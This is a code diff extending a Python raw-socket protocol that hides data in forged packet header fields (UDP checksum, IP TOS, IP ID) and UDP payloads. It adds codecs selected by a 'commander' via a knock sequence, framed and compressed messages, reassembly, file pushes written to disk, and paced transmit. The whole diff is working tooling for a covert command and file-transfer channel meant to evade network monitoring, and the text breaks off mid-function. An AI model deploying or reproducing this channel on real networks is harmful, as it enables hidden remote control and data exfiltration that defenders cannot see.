@@ -1,20 +1,890 @@
+import logging
+import heapq
+import os
+import queue
 import socket
 import struct
+import tempfile
 import time
 import threading
+import zlib
+from collections import OrderedDict, namedtuple
+from concurrent.futures import CancelledError, ThreadPoolExecutor
 
-CHUNK_SIZE = 2
+from covert_logging import throttle
+
+log = logging.getLogger("raw_socket_protocol")
+
+CHUNK_SIZE = 2  # Bytes per packet with the default codec
 # FLAG_DATA = 0
 # FLAG_ACK = 1
 # FLAG_START = 2
 # FLAG_END = 3
 
 DUMMY_PAYLOAD = b'\x00' * 4
+MAX_CHUNKS = 0xFFFF  # chunk count travels in the 16-bit UDP length field
+PACKET_INTERVAL = 0.01  # Seconds between consecutive packets of one transfer
+TRANSMIT_GRACE = 10  # Seconds a paced flow may overrun its nominal duration before send() gives up
+
+# Reassembly limits
+REASSEMBLY_IDLE_TIMEOUT = 10       # Seconds a partial transfer may sit idle before it is dropped
+MAX_REASSEMBLY_CONTEXTS = 1        # Partial transfers kept at once; least recently used is evicted
+MAX_REASSEMBLY_BYTES = 1024 * 1024 # Per-source cap on buffered chunk data
+MAX_INFLATED_BYTES = 256 * 1024 * 1024  # Cap on a decompressed body streamed to disk
+
+# Send pipeline
+PIPELINE_BLOCK_SIZE = 64 * 1024    # Bytes per independently compressed block
+PIPELINE_PACKET_QUEUE = 1024       # Built packets buffered ahead of the paced transmit
+COMPRESS_MIN_SIZE = 512            # Payloads at least this big are compressed when it pays off
+COMPRESS_LEVEL = 6
+DEFLATE_WINDOW = 32 * 1024         # History a block's compressor is primed with
+
+# Message framing: every payload is sent as header | body | trailer
+# header  = magic (1) | flags (1) | request id (2) | body length (4)
+# trailer = CRC32 over header + body (4)
+# A reply carries the request id of the command it answers; 0 means unsolicited.
+FRAME_MAGIC = 0xC5
+FRAME_HEADER = struct.Struct("!BBHI")
+FRAME_TRAILER = struct.Struct("!I")
+FRAME_OVERHEAD = FRAME_HEADER.size + FRAME_TRAILER.size
+FLAG_COMPRESSED = 0x01  # body is a raw deflate stream
+KNOWN_FLAGS = FLAG_COMPRESSED  # frames with unknown flags are rejected
+
+
+class FrameError(ValueError):
+    """A framed message is corrupt, truncated or inconsistent with its chunk count."""
+
+
+def frame_chunk_count(body_len, chunk_len):
+    """Number of chunks a framed message of body_len bytes occupies."""
+    return -(-(body_len + FRAME_OVERHEAD) // chunk_len)
+
+
+def deflate_block(data, start, end, last, level=COMPRESS_LEVEL):
+    """
+    Compress data[start:end] as one piece of a raw deflate stream, the way pigz does.
+    The compressor is primed with the 32 KiB before the block so matches can reach
+    back across blocks, and non-final blocks end with a sync flush on a byte boundary,
+    so the outputs of independently compressed blocks concatenate into one stream.
+    """
+    history = data[max(start - DEFLATE_WINDOW, 0):start]
+    if len(history):
+        comp = zlib.compressobj(level, zlib.DEFLATED, -15, zlib.DEF_MEM_LEVEL,
+                                zlib.Z_DEFAULT_STRATEGY, history)
+    else:
+        comp = zlib.compressobj(level, zlib.DEFLATED, -15)
+    return comp.compress(data[start:end]) + comp.flush(zlib.Z_FINISH if last else zlib.Z_SYNC_FLUSH)
+
+ReceivedFile = namedtuple('ReceivedFile', ['path', 'size'])
+
+
+class ChunkCodec:
+    """
+    Where a codec hides each chunk in a covert packet: the UDP checksum field (2 bytes),
+    the IP TOS byte (1 byte) and/or the UDP payload (payload_len bytes).
+    Bytes are placed in that order; capacity is the data carried per packet.
+    """
+
+    def __init__(self, codec_id, name, tos=False, payload_len=0, description=''):
+        self.codec_id = codec_id
+        self.name = name
+        self.tos = tos
+        self.payload_len = payload_len
+        self.description = description
+        self.capacity = 2 + (1 if tos else 0) + payload_len
+
+    def wire_payload_len(self):
+        """UDP payload bytes on the wire (the decoy payload when no data rides there)."""
+        return self.payload_len or len(DUMMY_PAYLOAD)
+
+    def encode(self, chunk):
+        """Split a chunk into (checksum, tos, udp_payload)."""
+        chunk = chunk.ljust(self.capacity, b'\x00')
+        checksum = struct.unpack("!H", chunk[:2])[0]
+        pos = 2
+        tos = 0
+        if self.tos:
+            tos = chunk[pos]
+            pos += 1
+        payload = chunk[pos:pos + self.payload_len] if self.payload_len else DUMMY_PAYLOAD
+        return checksum, tos, payload
+
+    def decode(self, checksum, tos, payload):
+        """Inverse of encode(); returns capacity bytes, or None if the payload is short."""
+        data = struct.pack("!H", checksum)
+        if self.tos:
+            data += bytes([tos])
+        if self.payload_len:
+            if len(payload) < self.payload_len:
+                return None
+            data += payload[:self.payload_len]
+        return data
+
+
+# Codec registry. The id is what the commander sends on the final knock to select a codec.
+CODECS = OrderedDict((codec.name, codec) for codec in [
+    ChunkCodec(0, "checksum", description="UDP checksum only (original encoding)"),
+    ChunkCodec(1, "tos", tos=True, description="UDP checksum + IP TOS; TOS may be rewritten by DSCP-aware routers"),
+    ChunkCodec(2, "payload", payload_len=4, description="UDP checksum + the 4-byte payload; same wire size as checksum"),
+    ChunkCodec(3, "payload32", payload_len=32, description="UDP checksum + 32-byte payload; larger, less ordinary packets"),
+])
+CODECS_BY_ID = {codec.codec_id: codec for codec in CODECS.values()}
+DEFAULT_CODEC = CODECS["checksum"]
+
+
+def get_codec(name_or_id):
+    """Look up a codec by name or id; returns None if unknown."""
+    if isinstance(name_or_id, ChunkCodec):
+        return name_or_id
+    if isinstance(name_or_id, int):
+        return CODECS_BY_ID.get(name_or_id)
+    return CODECS.get(name_or_id)
+
+
+def codec_report(sample_len=64 * 1024, packet_interval=PACKET_INTERVAL):
+    """
+    Capacity and encode/decode benchmark for every registered codec.
+    Returns one dict per codec; throughput assumes send_packet's pacing interval.
+    """
+    protocol = RawSocketProtocol()
+    sample = os.urandom(sample_len)
+    report = []
+
+    for codec in CODECS.values():
+        chunks = [sample[i:i + codec.capacity] for i in range(0, sample_len, codec.capacity)]
+        wire_len = 20 + 8 + codec.wire_payload_len()
+
+        start = time.perf_counter()
+        packets = [
+            protocol.create_ip_header("127.0.0.1", "127.0.0.1", (seq % MAX_CHUNKS) + 1,
+                                      8 + codec.wire_payload_len(), codec.encode(chunk)[1])
+            + protocol.build_covert_udp(chunk, 0, 0, len(chunks), codec)
+            for seq, chunk in enumerate(chunks)
+        ]
+        encode_time = time.perf_counter() - start
+
+        start = time.perf_counter()
+        for packet in packets:
+            protocol.parse_udp_packet(packet, codec)
+        decode_time = time.perf_counter() - start
+
+        report.append({
+            "id": codec.codec_id,
+            "name": codec.name,
+            "bytes_per_packet": codec.capacity,
+            "wire_bytes": wire_len,
+            "efficiency": codec.capacity / wire_len,
+            "max_transfer": codec.capacity * MAX_CHUNKS - FRAME_OVERHEAD,
+            "channel_bps": codec.capacity / packet_interval,
+            "encode_mbps": sample_len / encode_time / 1e6,
+            "decode_mbps": sample_len / decode_time / 1e6,
+            "description": codec.description,
+        })
+    return report
+
+
+class PayloadFileWriter:
+    """
+    Streams an inbound payload into a preallocated temp file with positional
+    writes as chunks arrive, then atomically renames it into place on commit.
+
+    If filename is None the payload carries the `!H name_len | name | data`
+    prefix used by file pushes; the name is read from it and only data is written.
+    """
+
+    def __init__(self, directory, payload_len, filename=None):
+        self.directory = directory
+        self.filename = os.path.basename(filename) if filename else None
+        self._payload_len = payload_len
+        self._prefix_len = 0 if filename else None
+        self._head = {}  # offset -> chunk, held until the name prefix is complete
+
+        self._fd, self.tmp_path = tempfile.mkstemp(dir=directory, prefix='.', suffix='.part')
+        try:
+            os.fchmod(self._fd, 0o644)
+            self._preallocate(payload_len)
+        except Exception:
+            self.abort()
+            raise
+
+    def _preallocate(self, length):
+        if length <= 0:
+            return
+        try:
+            os.posix_fallocate(self._fd, 0, length)
+        except (AttributeError, OSError):
+            # Not every platform/filesystem supports fallocate; a sparse file still avoids regrowth
+            os.ftruncate(self._fd, length)
+
+    def write_at(self, offset, data):
+        """Write data found at offset in the payload."""
+        if self._prefix_len is None:
+            self._head[offset] = data
+            self._resolve_prefix()
+            return
+        self._write(offset, data)
+
+    def _write(self, offset, data):
+        start = offset - self._prefix_len
+        if start < 0:
+            # Chunk straddles the name prefix and the file data
+            data = data[-start:]
+            start = 0
+        if data:
+            os.pwrite(self._fd, data, start)
+
+    def _resolve_prefix(self):
+        head = b''
+        for offset in sorted(self._head):
+            if offset != len(head):
+                break
+            head += self._head[offset]
+
+        if len(head) < 2:
+            return
+        name_len = struct.unpack('!H', head[:2])[0]
+        if len(head) < 2 + name_len:
+            return
+
+        self.filename = os.path.basename(head[2:2 + name_len].decode('utf-8'))
+        self._prefix_len = 2 + name_len
+        pending, self._head = self._head, {}
+        for offset, data in pending.items():
+            self._write(offset, data)
+
+    def commit(self, payload_len=None):
+        """Truncate to the final size and rename into place. Returns a ReceivedFile."""
+        try:
+            if self._prefix_len is None:
+                raise ValueError("payload ended before the file name was complete")
+            if not self.filename:
+                raise ValueError("payload carries an empty file name")
+
+            if payload_len is None:
+                payload_len = self._payload_len
+            size = max(payload_len - self._prefix_len, 0)
+            os.ftruncate(self._fd, size)
+            os.close(self._fd)
+            self._fd = None
+
+            path = os.path.join(self.directory, self.filename)
+            os.replace(self.tmp_path, path)
+            return ReceivedFile(path, size)
+        except Exception:
+            self.abort()
+            raise
+
+    def abort(self):
+        """Discard the partial file."""
+        if self._fd is not None:
+            os.close(self._fd)
+            self._fd = None
+        try:
+            os.remove(self.tmp_path)
+        except FileNotFoundError:
+            pass
+
+
+class MemorySink:
+    """Collects a message body in a preallocated buffer; the in-memory counterpart of PayloadFileWriter."""
+
+    def __init__(self, payload_len):
+        self._buf = bytearray(payload_len)
+
+    def write_at(self, offset, data):
+        end = offset + len(data)
+        if end > len(self._buf):
+            # Decompressed bodies outgrow the wire-size estimate
+            self._buf.extend(bytes(end - len(self._buf)))
+        self._buf[offset:end] = data
+
+    def commit(self, payload_len=None):
+        if payload_len is not None:
+            del self._buf[payload_len:]
+        return bytes(self._buf)
+
+    def abort(self):
+        self._buf = bytearray()
+
+
+class ReassemblyContext:
+    """
+    One inbound framed transfer, keyed by IP ID sequence number.
+
+    Body bytes go to the sink at their offset as soon as a chunk arrives. Chunks are
+    also folded in order into a running CRC32, so a bad header is rejected after the
+    first few packets and a bad CRC the moment the last packet lands.
+    Out-of-order chunks wait in a small pending map until the gap before them fills.
+    A compressed body can only be inflated in order, so it is written to the sink
+    from the fold instead, and capped at max_inflated bytes.
+    """
+
+    def __init__(self, src_ip, command, total, chunk_len=CHUNK_SIZE, sink=None,
+                 max_pending=MAX_REASSEMBLY_BYTES, max_inflated=MAX_INFLATED_BYTES):
+        self.src_ip = src_ip
+        self.command = command
+        self.total = total
+        self.chunk_len = chunk_len
+        self.sink = sink if sink is not None else MemorySink(total * chunk_len)
+        self.max_pending = max_pending
+        self.max_inflated = max_inflated
+        self.flags = None
+        self.request_id = None  # known once the header is folded
+        self.length = None  # body length, known once the header is folded
+        self.failed = False
+        self.last_seen = time.monotonic()
+        self._seen = bytearray(total + 1)
+        self._count = 0
+        self._next_seq = 1
+        self._pending = {}
+        self._pending_bytes = 0
+        self._header = b''
+        self._trailer = b''
+        self._crc = 0
+        self._inflater = None
+        self._inflated = 0
+
+    def add(self, seq, data):
+        """
+        Store a chunk. Returns False if seq falls outside 1..total or is a duplicate.
+        Raises FrameError as soon as the message is known to be bad.
+        """
+        if seq < 1 or seq > self.total or self._seen[seq]:
+            return False
+        self._seen[seq] = 1
+        self._count += 1
+        self.last_seen = time.monotonic()
+
+        # Positional write of whatever part of the chunk lies in the body, once the
+        # header says the body is plain; otherwise the fold writes it
+        written = self.flags is not None and self._inflater is None
+        if written:
+            offset = (seq - 1) * self.chunk_len - FRAME_HEADER.size
+            if offset < 0:
+                data_body = data[-offset:]
+                offset = 0
+            else:
+                data_body = data
+            data_body = data_body[:max(self.length - offset, 0)]
+            if data_body:
+                self.sink.write_at(offset, data_body)
+
+        if seq != self._next_seq:
+            self._pending[seq] = (data, written)
+            self._pending_bytes += len(data)
+            if self._pending_bytes > self.max_pending:
+                raise FrameError(f"{self._pending_bytes} bytes waiting on seq {self._next_seq}")
+            return True
+
+        self._fold(data, written)
+        while self._next_seq in self._pending:
+            chunk, chunk_written = self._pending.pop(self._next_seq)
+            self._pending_bytes -= len(chunk)
+            self._fold(chunk, chunk_written)
+        return True
+
+    def _fold(self, data, written):
+        """
+        Consume the next in-order chunk: parse the header, advance the CRC, write or
+        inflate body bytes add() could not place, and collect the trailer.
+        """
+        pos = (self._next_seq - 1) * self.chunk_len
+        self._next_seq += 1
+
+        if len(self._header) < FRAME_HEADER.size:
+            take = FRAME_HEADER.size - len(self._header)
+            self._header += data[:take]
+            data = data[take:]
+            pos += take
+            if len(self._header) < FRAME_HEADER.size:
+                return
+            self._check_header()
+            self._crc = zlib.crc32(self._header)
+
+        body_end = FRAME_HEADER.size + self.length
+        if pos < body_end:
+            body = data[:body_end - pos]
+            self._crc = zlib.crc32(body, self._crc)
+            if self._inflater is not None:
+                self._inflate(body)
+            elif not written:
+                self.sink.write_at(pos - FRAME_HEADER.size, body)
+            data = data[len(body):]
+            pos += len(body)
+
+        if data and len(self._trailer) < FRAME_TRAILER.size:
+            self._trailer += data[:FRAME_TRAILER.size - len(self._trailer)]
+            if len(self._trailer) == FRAME_TRAILER.size:
+                (crc,) = FRAME_TRAILER.unpack(self._trailer)
+                if crc != self._crc:
+                    raise FrameError(f"CRC mismatch (got 0x{crc:08X}, computed 0x{self._crc:08X})")
+                if self._inflater is not None and (not self._inflater.eof or self._inflater.unused_data):
+                    raise FrameError("compressed body does not end with the deflate stream")
+
+    def _inflate(self, body):
+        room = self.max_inflated - self._inflated
+        try:
+            out = self._inflater.decompress(body, room + 1)
+        except zlib.error as e:
+            raise FrameError(f"bad compressed body: {e}")
+        if len(out) > room:
+            raise FrameError(f"compressed body inflates past {self.max_inflated} bytes")
+        if out:
+            self.sink.write_at(self._inflated, out)
+            self._inflated += len(out)
+
+    def _check_header(self):
+        magic, flags, request_id, length = FRAME_HEADER.unpack(self._header)
+        if magic != FRAME_MAGIC:
+            raise FrameError(f"bad frame magic 0x{magic:02X}")
+        if flags & ~KNOWN_FLAGS:
+            raise FrameError(f"unknown frame flags 0x{flags:02X}")
+        expected = frame_chunk_count(length, self.chunk_len)
+        if expected != self.total:
+            raise FrameError(f"length {length} needs {expected} chunks, transfer has {self.total}")
+        self.flags = flags
+        self.request_id = request_id
+        self.length = length
+        if flags & FLAG_COMPRESSED:
+            self._inflater = zlib.decompressobj(-15)
+
+    def received(self):
+        return self._count
+
+    def is_complete(self):
+        return self._next_seq > self.total
+
+    def missing(self):
+        return {seq for seq in range(1, self.total + 1) if not self._seen[seq]}
+
+    def fail(self):
+        """Mark the transfer rejected and release its data; later chunks of it are ignored."""
+        self.failed = True
+        self.discard()
+        self._pending.clear()
+        self._pending_bytes = 0
+
+    def finish(self):
+        """Complete the transfer: the body bytes, or a ReceivedFile if streamed to disk."""
+        if not self.is_complete() or len(self._trailer) < FRAME_TRAILER.size:
+            self.discard()
+            raise FrameError(f"short message: {self._count}/{self.total} chunks")
+        return self.sink.commit(self.length if self._inflater is None else self._inflated)
+
+    def discard(self):
+        """Drop the transfer, removing any partial file."""
+        self.sink.abort()
+
+
+class ReassemblyTable:
+    """
+    Partial transfers keyed by source, bounded in count, size and age.
+    Idle contexts expire, the least recently used context is evicted when the
+    table is full, and transfers that would exceed the per-source byte cap are refused.
+
+    sink_factory(src_ip, command, payload_len) may return a PayloadFileWriter to
+    stream a new transfer to disk instead of memory; the byte cap does not apply then.
+
+    feed() raises FrameError when a transfer is found corrupt. The context stays as a
+    tombstone so the rest of that transfer is ignored until it expires or restarts.
+    """
+
+    def __init__(self, idle_timeout=REASSEMBLY_IDLE_TIMEOUT,
+                 max_contexts=MAX_REASSEMBLY_CONTEXTS,
+                 max_bytes=MAX_REASSEMBLY_BYTES,
+                 sink_factory=None):
+        self.idle_timeout = idle_timeout
+        self.max_contexts = max_contexts
+        self.max_bytes = max_bytes
+        self.sink_factory = sink_factory
+        self._contexts = OrderedDict()
+        self.expired = 0
+        self.evicted = 0
+        self.refused = 0
+        self.rejected = 0
+
+    def __len__(self):
+        return len(self._contexts)
+
+    def expire(self, now=None):
+        """Drop contexts idle for longer than idle_timeout. Returns the dropped contexts."""
+        now = time.monotonic() if now is None else now
+        dropped = []
+        # Contexts are kept in last-touched order, so stale ones sit at the front
+        while self._contexts:
+            src_ip, ctx = next(iter(self._contexts.items()))
+            if now - ctx.last_seen <= self.idle_timeout:
+                break
+            del self._contexts[src_ip]
+            ctx.discard()
+            dropped.append(ctx)
+        self.expired += len(dropped)
+        return dropped
+
+    def feed(self, src_ip, parsed):
+        """
+        Add a parsed packet to the context for src_ip, creating it if needed.
+        Returns the context, or None if the packet was refused.
+        """
+        self.expire()
+
+        total = parsed["total"]
+        command = parsed["command"]
+        ctx = self._contexts.get(src_ip)
+
+        # A different command or total means the old transfer was abandoned;
+        # a fresh first chunk restarts a transfer that was rejected
+        if ctx is not None and (ctx.command != command or ctx.total != total
+                                or (ctx.failed and parsed["seq"] == 1)):
+            del self._contexts[src_ip]
+            ctx.discard()
+            ctx = None
+
+        if ctx is None:
+            if not total:
+                self.refused += 1
+                log.warning("Refused transfer from %s: packet carries no chunk total", src_ip,
+                            extra=throttle(f"refused {src_ip}",
+                                           f"refused {{count:,}} more packets from {src_ip} in last {{interval:g}} s"))
+                return None
+            chunk_len = len(parsed["data"])
+            sink = None
+            if self.sink_factory is not None:
+                # Upper bound on the body; the sink is truncated to the framed length on commit
+                sink = self.sink_factory(src_ip, command, max(total * chunk_len - FRAME_OVERHEAD, 0))
+            if sink is None and total * chunk_len > self.max_bytes:
+                self.refused += 1
+                log.warning("Refused 0x%04X transfer from %s: %d bytes exceeds the %d byte reassembly cap",
+                            command, src_ip, total * chunk_len, self.max_bytes,
+                            extra=throttle(f"refused {src_ip}",
+                                           f"refused {{count:,}} more packets from {src_ip} in last {{interval:g}} s"))
+                return None
+            while len(self._contexts) >= self.max_contexts:
+                _, evicted = self._contexts.popitem(last=False)
+                evicted.discard()
+                self.evicted += 1
+            # Compressed bodies kept in memory are held to the same per-source cap once inflated
+            ctx = ReassemblyContext(src_ip, command, total, chunk_len, sink, self.max_bytes,
+                                    self.max_bytes if sink is None else MAX_INFLATED_BYTES)
+            self._contexts[src_ip] = ctx
+        else:
+            self._contexts.move_to_end(src_ip)
+
+        if ctx.failed:
+            ctx.last_seen = time.monotonic()
+            return None
+        try:
+            if not ctx.add(parsed["seq"], parsed["data"]):
+                return None
+        except FrameError:
+            ctx.fail()
+            self.rejected += 1
+            raise
+        return ctx
+
+    def get(self, src_ip):
+        return self._contexts.get(src_ip)
+
+    def pop(self, src_ip):
+        return self._contexts.pop(src_ip, None)
+
+    def clear(self):
+        for ctx in self._contexts.values():
+            ctx.discard()
+        self._contexts.clear()
+
+
+class TransmitScheduler(threading.Thread):
+    """
+    Paced transmit of several transfers at once over one raw socket.
+
+    Each flow keeps its own PACKET_INTERVAL between packets and flows are interleaved
+    by due time, so a long response to one destination does not hold back another.
+    """
+
+    def __init__(self, interval=PACKET_INTERVAL):
+        super().__init__(daemon=True)
+        self.interval = interval
+        self._cond = threading.Condition()
+        self._due = []  # heap of (due time, flow number, flow)
+        self._counter = 0
+        self._running = True  # False once stopped or the socket could not be opened
+        self._sock = None
+
+    def submit(self, dst_ip, packets):
+        """
+        Queue a flow for transmit. Returns a dict whose 'done' event is set when it finishes.
+        A flow submitted after the scheduler stopped or failed is done (not ok) at once.
+        """
+        flow = {'dst': dst_ip, 'packets': iter(packets), 'done': threading.Event(), 'ok': True}
+        with self._cond:
+            if not self._running:
+                flow['ok'] = False
+                flow['done'].set()
+                return flow
+            self._counter += 1
+            heapq.heappush(self._due, (time.monotonic(), self._counter, flow))
+            self._cond.notify()
+        return flow
+
+    def send(self, dst_ip, packets, total, timeout=None):
+        """
+        Queue a flow of total packets and wait for it to be sent. Returns True on success.
+        Gives up after timeout seconds, by default twice the flow's paced duration
+        plus TRANSMIT_GRACE; the rest of a flow that timed out is dropped.
+        """
+        if timeout is None:
+            timeout = 2 * total * self.interval + TRANSMIT_GRACE
+        flow = self.submit(dst_ip, packets)
+        if not flow['done'].wait(timeout):
+            log.error("Transmit to %s timed out after %g s", dst_ip, timeout)
+            flow['ok'] = False
+            flow['done'].set()
+        return flow['ok']
+
+    def stop(self):
+        with self._cond:
+            self._running = False
+            self._cond.notify()
+
+    def run(self):
+        try:
+            self._sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+            self._sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+            while True:
+                with self._cond:
+                    while self._running and not self._due:
+                        self._cond.wait()
+                    if not self._running:
+                        break
+                    due, number, flow = self._due[0]
+                    delay = due - time.monotonic()
+                    if delay > 0:
+                        # Wake early if a new flow arrives with an earlier due time
+                        self._cond.wait(delay)
+                        continue
+                    heapq.heappop(self._due)
+                if flow['done'].is_set():
+                    continue  # given up on by send()
+
+                try:
+                    packet = next(flow['packets'], None)
+                except Exception as e:
+                    # Packets may come from a SendPipeline whose earlier stage failed
+                    log.error("Transmit to %s aborted: %s", flow['dst'], e)
+                    flow['ok'] = False
+                    flow['done'].set()
+                    continue
+                if packet is None:
+                    flow['done'].set()
+                    continue
+                try:
+                    self._sock.sendto(packet, (flow['dst'], 0))
+                except OSError as e:
+                    log.error("Transmit to %s failed: %s", flow['dst'], e)
+                    flow['ok'] = False
+                    flow['done'].set()
+                    continue
+
+                with self._cond:
+                    heapq.heappush(self._due, (time.monotonic() + self.interval, number, flow))
+        except OSError as e:
+            log.error("Transmit scheduler stopped: %s", e)
+        finally:
+            if self._sock is not None:
+                self._sock.close()
+            with self._cond:
+                self._running = False
+                for _, _, flow in self._due:
+                    flow['ok'] = False
+                    flow['done'].set()
+                self._due.clear()
+
+
+_END = object()
+
+_compress_pool = None
+_compress_pool_lock = threading.Lock()
+
+
+def compress_pool():
+    """Worker pool shared by every SendPipeline for block compression, created on first use."""
+    global _compress_pool
+    with _compress_pool_lock:
+        if _compress_pool is None:
+            _compress_pool = ThreadPoolExecutor(max_workers=os.cpu_count() or 1,
+                                                thread_name_prefix="deflate")
+        return _compress_pool
+
+
+class _PipelineClosed(Exception):
+    """Raised inside a stage when the pipeline is closed under it."""
+
+
+class SendPipeline:
+    """
+    Staged send of one message: compress -> packetize -> paced transmit.
+
+    Payloads worth compressing are cut into blocks deflated in parallel on the shared
+    compress_pool (pigz-style raw deflate, so large payloads use several cores). The
+    chunk count travels in every packet, so it must be known before the first one:
+    a compressed body starts transmitting once its last block is done, and compression
+    is dropped when it would not shrink the body. The packetize stage then frames the
+    body and encodes covert packets while the transmit stage paces earlier ones onto
+    the wire; a bounded queue between the two gives backpressure.
+    """
+
+    def __init__(self, protocol, src_ip, dst_ip, dst_port, command_type, data, codec=None,
+                 compress=None, block_size=PIPELINE_BLOCK_SIZE, request_id=0):
+        self.protocol = protocol
+        self.src_ip = src_ip
+        self.dst_ip = dst_ip
+        self.dst_port = dst_port
+        self.command_type = command_type
+        self.request_id = request_id
+        self.data = memoryview(data)
+        self.codec = codec or protocol.codec
+        self.compress = len(data) >= COMPRESS_MIN_SIZE if compress is None else compress
+        self.block_size = block_size
+        self.total = None      # chunk count, known once the first packet is built
+        self.body_len = None   # framed body length on the wire
+        self.flags = None
+        self.error = None
+        self.ready = threading.Event()  # set once the first packet is queued or a stage failed
+        self._packets = queue.Queue(maxsize=PIPELINE_PACKET_QUEUE)
+        self._stop = threading.Event()
+        self._futures = []
+
+    def start(self):
+        threading.Thread(target=self._run_stage, args=(self._packetize_stage,), daemon=True).start()
+        return self
+
+    def wait_ready(self, timeout=None):
+        """Wait until packets are flowing. Returns the chunk count; raises if a stage failed."""
+        self.ready.wait(timeout)
+        if self.error is not None:
+            raise self.error
+        return self.total
+
+    def packets(self):
+        """Built packets in order, for the transmit stage. Raises if an earlier stage failed."""
+        try:
+            while True:
+                packet = self._get(self._packets)
+                if self.error is not None:
+                    raise self.error
+                if packet is _END:
+                    return
+                yield packet
+        finally:
+            self.close()
+
+    def transmit(self, interval=PACKET_INTERVAL):
+        """Paced transmit stage on its own raw socket, run on the caller's thread."""
+        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+        try:
+            for packet in self.packets():
+                sock.sendto(packet, (self.dst_ip, 0))
+                time.sleep(interval)
+        finally:
+            sock.close()
+
+    def close(self):
+        """Stop all stages; safe to call more than once."""
+        self._stop.set()
+        for future in self._futures:
+            future.cancel()
+
+    def _run_stage(self, stage):
+        try:
+            stage()
+        except _PipelineClosed:
+            pass
+        except Exception as e:
+            self.error = e
+            self.close()
+            self.ready.set()
+
+    def _put(self, q, item):
+        while not self._stop.is_set():
+            try:
+                q.put(item, timeout=0.1)
+                return
+            except queue.Full:
+                continue
+        raise _PipelineClosed()
+
+    def _get(self, q):
+        while True:
+            try:
+                return q.get(timeout=0.1)
+            except queue.Empty:
+                if self._stop.is_set():
+                    return _END
+
+    def _compressed_blocks(self):
+        """Deflate the payload's blocks in parallel on the shared pool, in order."""
+        pool = compress_pool()
+        length = len(self.data)
+        self._futures = [pool.submit(deflate_block, self.data, start, min(start + self.block_size, length),
+                                     start + self.block_size >= length)
+                         for start in range(0, length, self.block_size)]
+        try:
+            return [future.result() for future in self._futures]
+        except CancelledError:
+            raise _PipelineClosed() from None
+
+    def _packetize_stage(self):
+        if self.compress:
+            # The header carries the body length, so every block must be compressed first
+            blocks = self._compressed_blocks()
+            body_len = sum(len(block) for block in blocks)
+            if body_len < len(self.data):
+                self._emit_frame(FLAG_COMPRESSED, body_len, blocks)
+                return
+            self.compress = False
+        blocks = (self.data[i:i + self.block_size] for i in range(0, len(self.data), self.block_size))
+        self._emit_frame(0, len(self.data), blocks)
+
+    def _emit_frame(self, flags, body_len, blocks):
+        chunk_size = self.codec.capacity
+        total = frame_chunk_count(body_len, chunk_size)
+        if total > MAX_CHUNKS:
+            raise ValueError(f"{body_len} bytes needs {total} packets; codec '{self.codec.name}' "
+                             f"allows at most {chunk_size * MAX_CHUNKS - FRAME_OVERHEAD} bytes")
+        self.total = total
+        self.body_len = body_len
+        self.flags = flags
+
+        header = FRAME_HEADER.pack(FRAME_MAGIC, flags, self.request_id, body_len)
+        crc = zlib.crc32(header)
+        pending = header
+        seq = 0
+        for block in blocks:
+            crc = zlib.crc32(block, crc)
+            pending += block
+            whole = len(pending) - len(pending) % chunk_size
+            seq = self._emit_chunks(pending[:whole], seq)
+            pending = pending[whole:]
+        self._emit_chunks(pending + FRAME_TRAILER.pack(crc), seq)
+        self._put(self._packets, _END)
+
+    def _emit_chunks(self, frame_part, seq):
+        chunk_size = self.codec.capacity
+        for i in range(0, len(frame_part), chunk_size):
+            seq += 1
+            self._put(self._packets, self.protocol.encode_packet(
+                self.src_ip, self.dst_ip, self.dst_port, self.command_type,
+                seq, frame_part[i:i + chunk_size], self.total, self.codec))
+            self.ready.set()
+        return seq
 
 
 class RawSocketProtocol:
-    def __init__(self):
+    def __init__(self, codec=None):
         self.sequence = 0
+        self.codec = get_codec(codec) if codec is not None else DEFAULT_CODEC
         self._recv_sock = None
         self._recv_lock = threading.Lock()
 
@@ -27,9 +897,8 @@ class RawSocketProtocol:
         s += s >> 16
         return ~s & 0xffff
 
-    def create_ip_header(self, src_ip, dst_ip, seq, payload_len):
+    def create_ip_header(self, src_ip, dst_ip, seq, payload_len, tos=0):
         ver_ihl = (4 << 4) + 5
-        tos = 0
         tot_len = 20 + payload_len
         pkt_id = seq
         frag = 0
@@ -53,15 +922,13 @@ class RawSocketProtocol:
             frag, ttl, proto, chk, src, dst
         )
 
-    def build_covert_udp(self, data_chunk, command_type, dst_port, total_chunks):
-        udp_len = 8 + len(DUMMY_PAYLOAD)
+    def build_covert_udp(self, data_chunk, command_type, dst_port, total_chunks, codec=None):
+        codec = codec or self.codec
 
         src_port = int(command_type)
         covert_len = total_chunks
 
-        covert_checksum = struct.unpack(
-            "!H", data_chunk.ljust(2, b'\x00')
-        )[0]
+        covert_checksum, _, udp_payload = codec.encode(data_chunk)
 
         return struct.pack(
             "!HHHH",
@@ -69,7 +936,7 @@ class RawSocketProtocol:
             dst_port,
             covert_len,
             covert_checksum
-        ) + DUMMY_PAYLOAD
+        ) + udp_payload
 
     def _open_recv_socket(self):
         """Open and return a raw UDP receive socket."""
@@ -94,54 +961,63 @@ class RawSocketProtocol:
                     pass
             self._recv_sock = self._open_recv_socket()
 
-    def send_packet(self, src_ip, dst_ip, dst_port, command_type, data):
+    def discard_recv_socket(self):
+        """Close a socket opened by prepare_recv_socket() that will not be used."""
+        with self._recv_lock:
+            sock, self._recv_sock = self._recv_sock, None
+        if sock is not None:
+            sock.close()
+
+    def encode_packet(self, src_ip, dst_ip, dst_port, command_type, seq, chunk, total, codec=None):
+        """One covert packet carrying chunk number seq of total."""
+        codec = codec or self.codec
+        _, tos, _ = codec.encode(chunk)
+        ip_hdr = self.create_ip_header(
+            src_ip,
+            dst_ip,
+            seq,  # start at 1 — kernel overwrites IP ID = 0
+            8 + codec.wire_payload_len(),
+            tos
+        )
+
+        udp_hdr = self.build_covert_udp(
+            chunk,
+            command_type,
+            dst_port,
+            total,
+            codec
+        )
+
+        return ip_hdr + udp_hdr
+
+    def send_pipeline(self, src_ip, dst_ip, dst_port, command_type, data, codec=None, compress=None,
+                      request_id=0):
+        """Start a SendPipeline for data; compress=None compresses payloads of COMPRESS_MIN_SIZE or more."""
+        return SendPipeline(self, src_ip, dst_ip, dst_port, command_type, data, codec, compress,
+                            request_id=request_id).start()
+
+    def send_packet(self, src_ip, dst_ip, dst_port, command_type, data, codec=None, compress=None,
+                    request_id=0):
         try:
